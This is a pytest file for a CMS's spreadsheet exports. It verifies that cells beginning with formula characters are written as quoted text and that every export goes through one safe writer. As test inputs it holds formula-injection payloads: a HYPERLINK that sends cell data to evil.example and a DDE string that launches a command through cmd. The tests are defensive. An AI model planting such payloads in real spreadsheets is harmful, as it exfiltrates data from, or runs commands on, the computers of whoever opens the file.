"""Every spreadsheet export goes through cms.core.spreadsheets, which never writes a formula."""

import ast
import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from wagtail import hooks
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from cms.actionplans.models import CommitmentPage, Milestone
from cms.core.spreadsheets import SafeSpreadsheetExportMixin, csv_text, safe_cell, xlsx_bytes

ROOT = Path(__file__).resolve().parents[1]
WRITER = ROOT / "cms" / "core" / "spreadsheets.py"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_be_a_formula_is_text(value):
    assert safe_cell(value) == "'" + value
    [row] = csv.reader(io.StringIO(csv_text([[value]], bom=False)))
    assert row == ["'" + value]


def test_numbers_dates_and_plain_text_are_written_as_they_are():
    assert [safe_cell(v) for v in (-5, 3.5, None, "Plant =SUM(A1) trees", "")] == [
        -5,
        3.5,
        None,
        "Plant =SUM(A1) trees",
        "",
    ]


def test_xlsx_cells_are_never_formulas():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([HOSTILE], sheet_title="x"))).active
    cells = next(sheet.iter_rows())
    assert all(cell.data_type == "s" for cell in cells)
    assert all(cell.value.startswith("'") for cell in cells)


def _python_files():
    for folder in ("cms", "plugins"):
        for path in (ROOT / folder).rglob("*.py"):
            if "tests" not in path.parts and "migrations" not in path.parts:
                yield path


def _writes_spreadsheets(tree):
    """The spreadsheet-writing names a module uses: csv.writer/DictWriter, openpyxl."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            if node.value.id == "csv" and node.attr in ("writer", "DictWriter"):
                found.append(f"csv.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module:
            names = {alias.name for alias in node.names}
            if node.module == "csv" and names & {"writer", "DictWriter"}:
                found.append("from csv import writer")
            if node.module.split(".")[0] == "openpyxl":
                found.append(f"from {node.module} import")
        if isinstance(node, ast.Import):
            found += [a.name for a in node.names if a.name.split(".")[0] == "openpyxl"]
    return found


def test_no_module_writes_a_spreadsheet_but_the_core_writer():
    offenders = {
        str(path.relative_to(ROOT)): uses
        for path in _python_files()
        if path != WRITER and (uses := _writes_spreadsheets(ast.parse(path.read_text())))
    }
    assert offenders == {}, "use cms.core.spreadsheets for every export"


def test_the_guard_sees_a_csv_writer():
    assert _writes_spreadsheets(ast.parse("import csv\ncsv.writer(f).writerow(r)"))
    assert _writes_spreadsheets(ast.parse("from openpyxl import Workbook"))


def _subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _subclasses(sub)


def test_every_admin_export_view_of_ours_neutralises_formulas():
    """Wagtail's report and listing views write CSV cells as they are."""
    hooks.search_for_hooks()  # imports every app's admin views
    ours = [
        view
        for view in _subclasses(SpreadsheetExportMixin)
        if view.__module__.split(".")[0] in ("cms", "plugins")
    ]
    assert ours, "the overdue-milestones report exports a spreadsheet"
    assert [v for v in ours if not issubclass(v, SafeSpreadsheetExportMixin)] == []


PLAN = "/uk/ogp-action-plan-2021-2023/"


@pytest.mark.django_db
def test_action_plan_csv_writes_an_editors_formula_as_text(get):
    data = json.loads(get("ternopil", PLAN + "data/json/").content)
    commitment = CommitmentPage.objects.get(
        translation_key=data["commitments"][0]["id"], locale__language_code="uk"
    )
    CommitmentPage.objects.filter(pk=commitment.pk).update(title='=HYPERLINK("http://evil")')
    milestone = Milestone.objects.filter(commitment=commitment).first()
    Milestone.objects.filter(pk=milestone.pk).update(deliverable="@SUM(1+1)*cmd|' /C calc'!A0")
    text = get("ternopil", PLAN + "data/csv/").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    titles = [r["title_uk"] for r in rows]
    assert "'=HYPERLINK(\"http://evil\")" in titles
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in titles
    assert not any(title.startswith(("=", "+", "-", "@")) for title in titles)


@pytest.mark.django_db
def test_overdue_report_csv_writes_an_editors_formula_as_text(admin_client):
    from django.urls import reverse

    from cms.actionplans.reports import overdue_milestones

    milestone = overdue_milestones()[0]
    Milestone.objects.filter(pk=milestone.pk).update(deliverable="=1+2")
    response = admin_client.get(reverse("actionplans_overdue") + "?export=csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=1+2" in text
    assert "\n=1+2" not in text and ",=1+2" not in text
